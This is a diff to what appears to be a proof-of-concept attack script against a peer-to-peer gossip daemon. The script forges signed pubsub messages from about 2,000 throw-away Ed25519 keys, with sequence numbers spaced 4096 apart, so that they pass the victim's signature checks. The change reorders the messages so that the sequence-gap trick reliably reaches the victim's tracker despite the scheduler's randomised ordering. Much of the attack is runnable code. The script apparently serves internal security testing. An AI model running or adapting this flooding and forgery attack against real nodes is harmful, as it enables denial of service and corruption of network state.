@@ -2,7 +2,8 @@
 
 The attack (issue 10, item 3): a hostile peer makes `origins` fresh Ed25519 keys and, for each,
 seals two gossip envelopes with the code the daemon itself uses (`fognode.node.gossip.seal`):
-sequence S and S + `gap` (4096), signed by the throw-away key, on a topic every daemon
+sequence S and S + `gap` (4096; every origin's S is sent before any S + gap), signed by the
+throw-away key, on a topic every daemon
 subscribes to (the monitor's status topic). Each envelope travels as a libp2p pubsub message
 whose `from` is the throw-away key's peer id, signed by that key as `strict_signing` demands,
 so every check the victim makes passes. All of them (4,000 small messages) are written in
@@ -86,12 +87,14 @@ async def attack(target: str, *, seconds: float, origins: int = 2000, gap: int =
     started = time.monotonic()
     deadline = trio.current_time() + seconds
     epoch = time.time_ns() // 1_000_000
-    msgs: list[object] = []
     status = valid_status()
-    for _ in range(origins):
-        key = SigningKey(os.urandom(32))
-        msgs.extend(forged_pubsub_messages(key, topic, (first_seq, first_seq + gap), epoch,
-                                           status))
+    pairs = [forged_pubsub_messages(SigningKey(os.urandom(32)), topic,
+                                    (first_seq, first_seq + gap), epoch, status)
+             for _ in range(origins)]
+    # every origin's seq S first, then every S + gap: a victim's tasks for one read may run in
+    # either order (trio randomises a scheduling batch), so two seqs of one origin in one RPC
+    # could reach its tracker gap first, and it would never see the jump
+    msgs: list[object] = [p[0] for p in pairs] + [p[1] for p in pairs]
     built = time.monotonic() - started
     sent = rpcs = failed = 0
     async with hostile_peer(target) as hp:
